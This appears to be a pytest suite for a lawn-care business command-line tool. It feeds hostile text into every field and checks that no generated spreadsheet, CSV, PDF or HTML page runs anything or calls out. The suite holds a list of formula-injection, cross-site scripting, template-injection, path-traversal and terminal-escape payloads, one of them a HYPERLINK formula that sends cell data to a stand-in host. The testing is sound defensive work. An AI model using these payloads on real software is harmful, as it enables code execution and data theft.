"""Text that would run, through every field, name and output: nothing runs, nothing leaves, it stands there as typed."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import socket
import stat
import tomllib
import zipfile
from collections.abc import Sequence
from contextlib import nullcontext, suppress
from functools import cache
from itertools import cycle, groupby
from pathlib import Path
from xml.sax.saxutils import escape

import geopandas as gpd
import openpyxl
import pypdfium2
import pytest
import shapely

from scanner.cli.group import COMMANDS
from scanner.cli.record import record
from scanner.sheets.cells import unguard
from tests.cli.desk import lots_heard, scanning_once, type_in

TODAY = ("--today", "2026-03-02")
MARK = "window.hit=1"
TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://gone.example/?"&A1,"x")',
    "'=1+1",
    f"<script>{MARK}</script>",
    f'"><img src=x onerror="{MARK}">',
    f"</script><script>{MARK}</script>",
    f"<svg/onload={MARK}>",
    f"--><!--<script>{MARK}//",
    f"</textarea></title></style><img src=http://gone.example/a onerror={MARK}>",
    f"' onfocus={MARK} autofocus '",
    "<base href=http://gone.example/><meta http-equiv=refresh content=0;url=http://gone.example/>",
    "<style>@import url(http://gone.example/a.css)</style>",
    "${" + MARK + "}",
    "`${" + MARK + "}`",
    "{{ 7*7 }}{% for x in y %}",
    f"javascript:{MARK}",
    "[red]red[/red][link=http://gone.example]here[/link]:smile:",
    "%s %d %n {0} {name} {}",
    "../../../etc/passwd",
    "C:\\Windows\\NUL",
    "a\x1b[2J\x1b]0;owned\x07b\x9b31m",
    "right\u202eto left\u2066 and\u200b nothing\u00ad",
    "line\u2028and\u2029paragraph\x85next",
    "e\u0301 \U0001f331 \u0627\u0644\u0639\u0634\u0628 \u5e8a Łukasz Ź\ufdfa",
    "]]></kml>&lt;&amp;&#x3c;",
    '"""\n[company]\nname = "other"\n#',
    'O\'Neil "Bob" <bob@example.org>; DROP TABLE calls;--',
    "x" * 400,
    "_x0041_ _x000D_ _xD800_",
)
"""Each is an attack on something that shows text, or a letter that something chokes on."""

COLUMNS = ("=cmd|'x'!A1", "<b onclick=window.hit=1>", "{{own}}", "a\x1b[31m", "co\u202elumn")
FIELDS = (
    "name",
    "address",
    "phone",
    "email",
    "route",
    "mow_day",
    "stop",
    "parcel_id",
    "notes",
    "hoa",
    *COLUMNS,
)
ME = "../../<b>window.hit=1</b>"
"""The id of the client of whom all papers are made; no file's name may hold it as it is."""
MINE = {
    "name": "Łucjan <b>Ó'Żak</b>",
    "address": "=12 Ósma St, Größe \\(Old)",
    "phone": "+1 402 555 0199",
    "email": "@zak@gone.example",
    "parcel_id": "../../12-0199",
    "notes": "gate {{ 7*7 }} by the bur-oak",
}
"""What nobody else's row says."""
TRACES = re.compile(
    "ucjan|Żak|zak@|Ósma St|Größe|555.{0,3}0199|bur-oak|hit=1(?:<|&lt;|.u003c)/b(?:>|&gt;|.u003e)|hit_1__b".encode(),
    re.IGNORECASE,
)
"""Of his words, his number, his ticket and his notes, however they are escaped."""


def make_book(folder: Path) -> Path:
    """A book with a client for each text, and that text in all his fields; two lots are drawn, in layers full of such texts."""
    (folder / "sites").mkdir(parents=True)
    rows = [
        {"client_id": f"C{at:02}", **dict.fromkeys(FIELDS, text)} for at, text in enumerate(TEXTS)
    ]
    # ids that a person might well type, and one that nobody would
    rows[0]["client_id"], rows[6]["client_id"] = "=1+1", "<script>window.hit=1</script>"
    rows.append({"client_id": ME, "route": TEXTS[6], **MINE})
    with (folder / "clients.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, [*rows[0]], restval="")
        writer.writeheader()
        writer.writerows(rows)
    with (folder / "measured.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("client_id", "along", "length_ft", "room_ft", "note"))
        writer.writerows(
            (row["client_id"], "curb", 70, 30, text)
            for row, text in zip(rows, (*TEXTS, "paced at the bur-oak"), strict=True)
        )
        writer.writerows((text, text, text, text, text) for text in TEXTS)
    quoted = json.dumps(TEXTS[7])
    (folder / "local.toml").write_text(
        f"bed_depth_ft = {{ value = 4, source = {quoted} }}\n[company]\nname = {quoted}\nphone = {json.dumps(TEXTS[0])}\n"
        f"address = {json.dumps(TEXTS[9])}\nlicense_id = {json.dumps(TEXTS[15])}\n"
        f'[quote]\nterms = {json.dumps(TEXTS[20])}\nstart_window = {quoted}\ncancel_notice = "yes"\n[{json.dumps(TEXTS[8])}]\nx = 1\n'
    )
    (folder / "rates.toml").write_text(f"{json.dumps(TEXTS[6])} = 3\n")
    (folder / "plants.toml").write_text(f"[{json.dumps(TEXTS[9])}]\nname = {quoted}\n")
    (folder / "letter.txt").write_text(
        f"{{name}}\n{{address}}\n{{phone}} {{company}}\n\n{TEXTS[6]} {TEXTS[9]}\n\n{{say}}\n"
    )
    (folder / "capacity.csv").write_text(
        "week,crew,free_crew_days\n2026-03-02,<b>,4\n"
        + "".join(
            f"{week},=1+1,8\n"
            for week in ("2026-03-30", "2026-04-06", "2026-04-13", "2026-04-20", "2026-04-27")
        )
    )
    draw(folder / "sites", "=1+1", TEXTS[::2])
    draw(folder / "sites", ME, TEXTS[1::2])
    marks = [
        (one, f"<Placemark><name>{one}</name><description>{one}</description></Placemark>")
        for one in (escape(re.sub("[\x00-\x1f]", "", text)) for text in TEXTS)
    ]
    said = "".join(  # a folder is a layer, and each layer is opened by every command that reads the book
        f"<Folder><name>{' '.join(names)}</name>{''.join(places)}</Folder>"
        for names, places in (zip(*marks[at::4], strict=True) for at in range(4))
    )
    kml = f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{said}</Document></kml>'
    (folder / "sites" / "layers.kml").write_text(kml, encoding="utf-8")
    return folder


def draw(folder: Path, client_id: str, texts: Sequence[str]) -> None:
    """Write a layer with a client's lot and street; its name, columns, kinds and cells are texts."""
    x = -98 + len(client_id) / 3000
    lot = shapely.box(x, 41, x + 0.0003, 41.0004)
    street = shapely.box(x, 40.9999, x + 0.0003, 41)
    count = len(texts)
    table = gpd.GeoDataFrame(
        {"kind": ["property", "street", *texts], "client_id": [client_id, *[""] * (count + 1)], "what": ["", "", *texts]}
        | {text[:60]: text for text in texts},
        geometry=[lot, street, *[lot] * count], crs=4326,
    )  # fmt: skip
    name = "".join(re.sub(r"[/\\\0]", "_", text)[:12] for text in texts)
    (folder / f"{name}.geojson").write_text(table.to_json(), encoding="utf-8")


def cut_off(monkeypatch: pytest.MonkeyPatch) -> tuple[socket.socket, list[object]]:
    """Send whatever leaves this process to a server of ours, and write down whatever Python would send."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    asked = list[object]()

    def refuse(*what: object) -> None:
        asked.append(what)
        raise OSError

    for name in (
        "http_proxy",
        "https_proxy",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "GDAL_HTTP_PROXY",
    ):
        monkeypatch.setenv(name, f"127.0.0.1:{server.getsockname()[1]}")
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return server, asked


def lead_away(place: Path, address: str) -> None:
    """Put layers beside and into a book that name an address wherever their formats have room for one."""
    link = f"<NetworkLink><Link><href>{address}.kml</href></Link></NetworkLink>"
    style = f"<Style><IconStyle><Icon><href>{address}.png</href></Icon></IconStyle></Style>"
    mark = f"<Placemark><styleUrl>{address}#x</styleUrl><name>street</name></Placemark>"
    sites = place / "book" / "sites"
    (sites / "away.kml").write_text(
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{style}{link}{mark}</Document></kml>'
    )
    crs = {
        "type": "link",
        "properties": {"href": f"{address}.prj", "name": f"{address}.prj", "type": "proj4"},
    }
    (sites / "away.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "crs": crs, "features": []})
    )
    square = "-98,41 -97.9997,41 -97.9997,41.0004 -98,41.0004 -98,41"
    (place / "lots.gml").write_text(
        '<ogr:FeatureCollection xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xsi:schemaLocation="http://ogr.maptools.org/ {address}.xsd" xmlns:ogr="http://ogr.maptools.org/" '
        f'xmlns:gml="http://www.opengis.net/gml"><gml:featureMember xlink:href="{address}.gml"><ogr:lot><ogr:geometryProperty>'
        f'<gml:Polygon srsName="EPSG:4326"><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>{square}</gml:coordinates>'
        "</gml:LinearRing></gml:outerBoundaryIs></gml:Polygon></ogr:geometryProperty><ogr:id>1</ogr:id></ogr:lot>"
        "</gml:featureMember></ogr:FeatureCollection>"
    )
    (place / "county").mkdir()
    (place / "county" / "clients.csv").write_text(
        "client_id,name,lon,lat\nA,Ada,-97.9999,41.0001\n"
    )


MONDAY = ("--week", "2026-03-09")
WRITTEN = (
    ("new", "other"), ("check", "book"), ("check", "book", "--json"), ("checklist", "book"), ("trace", "book"),
    ("assemble", "county", "--parcels", "lots.gml"), ("scan", "book"), ("calls", "book"), ("calls", "book", "--json"),
    ("promo", "book", "--weeks", "2026-03-30..2026-04-27", "--letters", "--calls-a-week", "0.1"),
    *(("record", "book", "calls", row, outcome, "--note", text) for row, outcome, text in zip(
        ("C01", "C02", "C03", "C04", "C05"), cycle(("call back", "not now", "quoted", "sold", "visit")), TEXTS, strict=False)),
    ("record", "book", "letter", "C02", "sent"),
    ("sketch", "book"), ("visit", "book", ME), ("record", "book", "visit", ME, "note=seen by the bur-oak", "--by", TEXTS[8]), ("explain", "book", ME),
    ("quote", "book", ME), ("record", "book", "quote", "Q2026-001", "won"),
    ("record", "book", "schedule", ME, "2026-03-09"),
    ("record", "book", "ticket", ME, "bur-oak-7", "--from", "2026-03-05", "--until", "2026-03-30"),
    ("jobsheet", "book", ME), ("order", "book", *MONDAY),
    ("client", "book", ME), ("client", "book", ME, "--json"), ("week", "book"), ("forecast", "book"), ("care", "book"),
    ("record", "book", "job", "Q2026-001", "--built", "2026-03-10", "--today", "2026-03-11"),
    ("record", "book", "undo"), ("calibrate", "book"), ("record", "book", "maps/book/calls.csv"), ("scan", "book"), ("scan", "book", "--share"),
)  # fmt: skip
"""All commands as they are typed, all words of `record` but the one that erases among them."""
NO_DAY = ("new", "check", "trace", "assemble", "calibrate")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """Everything that a book of such texts comes to, made where nobody else's files are private."""
    place = tmp_path_factory.mktemp("hostile")
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.chdir(place)
    before = os.umask(0o022)
    server, asked = cut_off(monkeypatch)
    book = make_book(place / "book")
    lead_away(place, f"http://127.0.0.1:{server.getsockname()[1]}/lots")
    told = {}
    for is_scan, some in groupby(WRITTEN, key=lambda words: words[0] == "scan"):
        # What is read and measured alike is looked at once by all that draw it
        with nullcontext() if is_scan else scanning_once(lots_heard):
            for words in some:
                today = () if words[0] in NO_DAY or "--today" in words else TODAY
                result = type_in(*words, *today)
                told[words] = (result.exit_code, result.stdout, result.stderr)
    os.umask(before)
    monkeypatch.undo()
    with server, suppress(TimeoutError):
        asked.append(server.accept())
    return {
        "asked": asked,
        "place": place,
        "out": place / "maps" / "book",
        "told": told,
        "book": book,
    }


def typed(text: str) -> str:
    """Give a text as people see it: blanks are one blank, and what cannot be seen is not there."""
    return " ".join(
        re.sub(
            "[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f\u200b\u00ad\u202a-\u202e\u2066-\u2069]", "", text
        ).split()
    )


def files(made: dict[str, object], ending: str) -> list[Path]:
    found = sorted(
        path for path in made["place"].rglob(f"*{ending}") if made["book"] not in path.parents
    )
    assert found, ending
    return found


def test_every_command_ends_in_words(made):
    typed_words = {words[0] for words in WRITTEN}
    assert typed_words == {*COMMANDS} - {"demo"}  # which makes the pages of the sample's own book
    of_record = {words[2] for words in WRITTEN if words[0] == "record"}
    assert of_record - {"maps/book/calls.csv"} == {*record.list_commands(None)} - {
        "forget",
        "sheet",
    }
    for words, (code, stdout, stderr) in made["told"].items():
        assert code in (0, 1), (words, stderr)
        assert "Traceback" not in stdout + stderr
        # what is told to people moves no cursor; results are for programs and spelled out on a terminal
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", stderr), words


def test_no_command_asks_a_server_whatever_the_layers_name(made):
    assert made["told"]["assemble", "county", "--parcels", "lots.gml"][0] == 0
    assert made["asked"] == []


def test_no_cell_of_any_workbook_is_a_formula(made):
    seen = ""
    for path in files(made, ".xlsx"):
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (
                        path.name,
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    assert cell.hyperlink is None
                    seen += f"{cell.value}\n" if cell.data_type == "s" else ""
    assert all(text in seen for text in (*TEXTS[:4], *TEXTS[6:10], COLUMNS[0]))


def test_no_cell_of_any_csv_runs(made):
    for path in files(made, ".csv"):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
        for cell in (cell for row in rows for cell in row):
            assert not re.match(r"[=+@\t\r]|-(?![\d.]+$)", cell), (path.name, cell)
        # one more row than records, whatever line ends stand in the cells
        assert len({len(row) for row in rows}) == 1, path.name


def test_data_for_programs_stand_as_typed(made):
    for path in (*files(made, ".json"), *made["out"].glob("*.geojson")):
        json.loads(path.read_text(encoding="utf-8"))
    for _, stdout, _ in made["told"].values():
        if stdout.startswith(("{", "[")):
            json.loads(stdout)
    names = {call["name"] for call in json.loads(made["told"]["calls", "book", "--json"][1])}
    assert names == {unguard(text) for text in (*TEXTS, MINE["name"])}
    for path in made["place"].rglob("*.toml"):
        if path.parent != made["book"]:
            tomllib.loads(path.read_text(encoding="utf-8"))


PAPERS = (
    "jobsheet-.._.._",
    "letters",
    "order-2026-03-09",
    "quote-2026-001",
    "sketches",
    "visit-.._.._",
)


@cache
def words_on(paper: bytes) -> str:
    """Read all that stands on a PDF, each one once."""
    with pypdfium2.PdfDocument(paper) as document:
        return "\n".join(page.get_textpage().get_text_bounded() for page in document)


def squeezed(text: str) -> str:
    """Give a text without its blanks, which lines of a paper break at will."""
    return "".join(typed(text).split())


def test_papers_hold_no_scripts_no_links_and_what_was_typed(made):
    written = ""
    for path in (found := files(made, ".pdf")):
        # what is packed may hold any letters
        raw = re.sub(rb"(?s)stream\r?\n.*?endstream", b"", path.read_bytes())
        assert not re.search(
            rb"/(JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile|RichMedia)\b", raw
        ), path.name
        text = words_on(path.read_bytes())
        assert text.strip()
        written += squeezed(text)
    assert all(any(path.name.startswith(name) for path in found) for name in PAPERS)
    for text in (MINE["name"], MINE["address"], MINE["phone"]):
        assert squeezed(text) in written, text
    # every client is written to; letters of Arabic are joined, and no face has Chinese
    for text in (*TEXTS[:26], *TEXTS[27:30], TEXTS[31], "Łukasz Ź"):
        assert squeezed(unguard(text))[:40] in written, text


@pytest.mark.skipif(os.name != "posix", reason="modes of files are a matter of POSIX")
def test_nothing_is_written_outside_and_nobody_else_may_read_it(made):
    place, out = made["place"], made["out"]
    assert {path.name for path in place.iterdir()} == {
        "book",
        "county",
        "lots.gml",
        "maps",
        "other",
    }
    assert {path.name for path in out.parent.iterdir()} == {"book", "book-shared"}
    assert [path.name for path in out.iterdir() if path.is_dir()] == []
    own = [made["book"] / name for name in (".scan", "book.sqlite", "copies")]
    assert all(path.exists() for path in own)
    for path in [place / "maps", place / "other", *own, *(
        path for top in (place / "maps", place / "other", *own) for path in top.rglob("*"))]:  # fmt: skip
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), path


def test_what_is_handed_on_tells_of_nobody_whatever_the_season_knows(made):
    """No id, quote, ticket, note, phone or place in any byte; texts of pages and of clients are alike, so by the marks of one."""
    shared = made["out"].with_name("book-shared")
    for path in shared.iterdir():
        content = path.read_bytes()
        data = content.partition(b'id="data">')[2].partition(b"</script>")[0] or content
        assert not TRACES.search(content), path.name
        assert not re.search(rb"\bC\d\d\b|Q2026-|-9[78]\.\d{3}|\b41\.0", content), path.name
        shown = data.decode().replace("\\u003c", "<").replace("\\u003e", ">")
        assert [text for text in TEXTS if text[:15] in shown] == [], path.name


def test_forgotten_is_who_stands_in_every_paper(made, tmp_path, monkeypatch):
    place = shutil.copytree(made["place"], tmp_path / "office")
    monkeypatch.chdir(place)

    def tells() -> set[str]:
        """Where anything of the client stands: bytes, parts of workbooks, words of papers, names of files."""
        found = set[str]()
        for path in (path for path in place.rglob("*") if path.is_file()):
            contents = [path.name.encode(), path.read_bytes()]
            if path.suffix == ".xlsx":
                with zipfile.ZipFile(path) as packed:
                    contents += [packed.read(name) for name in packed.namelist()]
            if path.suffix == ".pdf":
                contents.append(words_on(path.read_bytes()).encode())
            if TRACES.search(b"\n".join(contents)):
                found.add(path.relative_to(place).as_posix())
        return found

    before = tells()
    papers = (
        "visit",
        "quote",
        "jobsheet",
        "order",
        "sketches",
        "letters",
        "mailing",
        "promo",
        "checklist",
        "calls",
        "map",
    )
    for name in papers:
        assert any(path.startswith(f"maps/book/{name}") for path in before), name
    (place / "book" / "sites" / "layers.kml").unlink()
    done = type_in("record", "book", "forget", ME, "--also-the-book", "--yes", *TODAY)
    assert (done.exit_code, tells()) == (0, set()), done.stderr
    again = type_in("quote", "book", "=1+1", *TODAY)
    assert "Quote Q2026-002 over" in again.stderr  # not the number that the forgotten one had


@pytest.mark.browser
def test_pages_run_nothing_ask_for_nothing_and_show_what_was_typed(made, tabs):
    shown = ""
    for path in files(made, ".html"):
        html = path.read_text(encoding="utf-8")
        assert "default-src 'none'" in html, path.name
        assert '<meta name="referrer" content="no-referrer">' in html, path.name
        one = tabs.open(path)
        page = one.page
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        assert page.evaluate("window.hit") is None, path.name
        own = ("file:", "data:", "blob:")
        assert [url for url in one.asked if not url.startswith(own)] == [], path.name
        assert one.complaints == [], path.name
        assert page.evaluate("location.href") == path.as_uri()
        assert page.evaluate("document.querySelectorAll('base, object, embed, iframe').length") == 0
        shown += page.evaluate("document.documentElement.textContent") + "\n"
    seen = typed(shown)
    for text in TEXTS:
        assert typed(unguard(text)) in seen, text
